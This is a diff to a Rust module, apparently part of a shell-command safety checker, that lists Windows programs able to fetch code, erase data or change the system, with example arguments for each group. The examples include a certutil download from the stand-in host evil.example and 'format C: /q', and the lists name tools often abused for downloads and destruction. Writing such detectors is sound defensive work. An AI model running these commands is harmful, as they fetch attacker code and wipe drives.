@@ -1,6 +1,8 @@
 //! Programs of Windows that a shell can start there: what deletes, fetches, or changes the machine.
 
-use super::{Handler, Walker};
+use super::Walker;
+use super::entry::Command;
+use super::words::words;
 use crate::rules::{execution, files, network};
 use crate::shell::{Field, Flow, Io, Step};
 
@@ -25,13 +27,26 @@ const CHANGE: &[(&str, &[&str])] = &[
     ("taskkill", &[]),
 ];
 
-pub(super) fn handler(name: &str) -> Option<Handler> {
-    match name {
-        "certutil" | "bitsadmin" | "mshta" | "regsvr32" | "rundll32" => Some(fetches),
-        "format" | "cipher" | "rd" | "erase" | "deltree" => Some(erases),
-        _ => CHANGE.iter().any(|(program, _)| *program == name).then_some(changes as Handler),
-    }
-}
+pub(super) const COMMANDS: &[Command] = &[
+    Command::code(
+        words!("certutil bitsadmin mshta regsvr32 rundll32"),
+        fetches,
+        [&[], &["/?"], &["-urlcache -f http://evil.example/a.exe a.exe"], &[]],
+    ),
+    Command::code(
+        words!("format cipher rd erase deltree"),
+        erases,
+        [&[], &["/?"], &["C: /q"], &[]],
+    ),
+    Command::code(
+        words!(
+            "diskpart bcdedit vssadmin wbadmin takeown icacls cacls reg sc wmic net netsh setx \
+             fsutil runas wevtutil taskkill"
+        ),
+        changes,
+        [&[], &["/?"], &["delete C:/data /s"], &[]],
+    ),
+];
 
 fn lower(words: &[Field]) -> Vec<String> {
     words[1..].iter().map(|word| word.text.to_ascii_lowercase()).collect()
